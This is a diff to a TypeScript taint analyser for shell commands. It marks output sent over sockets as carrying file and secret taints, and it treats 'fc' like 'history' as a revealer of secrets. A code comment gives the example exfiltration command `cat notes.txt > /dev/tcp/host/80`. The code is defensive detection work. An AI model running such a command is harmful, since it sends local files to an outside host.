@@ -3,12 +3,26 @@ import { SECRET_ROLES } from './roles.ts';
 import type { Start } from './spec.ts';
 import type { Effect, Invocation, Taint } from './types.ts';
 
-/** What a send carries: its own taints, and secrets that flow in. */
-export function carriedBy(each: Effect, invocation: Invocation, copied: boolean): Taint[] {
+/** What a send carries: its own taints, and secrets that flow in; over a socket, all that the command puts out. */
+export function carriedBy(each: Effect, invocation: Invocation, copied: boolean, isSocket: boolean): Taint[] {
   const carries = new Set<Taint>(each.carries);
   if (copied) carries.add('secret');
+  // `cat notes.txt > /dev/tcp/host/80`
+  if (isSocket) for (const taint of putOut(invocation)) carries.add(taint);
   if (invocation.effects.some((other) => other.action === 'read' && isSecret(other))) carries.add('secret');
   return carries.size === each.carries.length ? each.carries : [...carries];
+}
+
+function putOut({ effects, input }: Invocation): Taint[] {
+  const taints = input.filter((taint) => taint === 'file' || taint === 'secret');
+  if (
+    effects.some(
+      ({ action, target }) => action === 'read' && target.kind === 'path' && target.scope !== 'sink',
+    )
+  )
+    taints.push('file');
+  if (effects.some(({ action }) => action === 'reveal')) taints.push('secret');
+  return taints;
 }
 
 function isSecret(each: Effect): boolean {
@@ -116,6 +130,6 @@ export function outputTaints(
   if (!dump && decodes(program, invocation)) add('decoder');
   if (DUMPS.has(program) && invocation.inert === null) add('file');
   // What was typed before, passwords with it.
-  if (program === 'history') add('secret');
+  if (program === 'history' || program === 'fc') add('secret');
   return taints;
 }
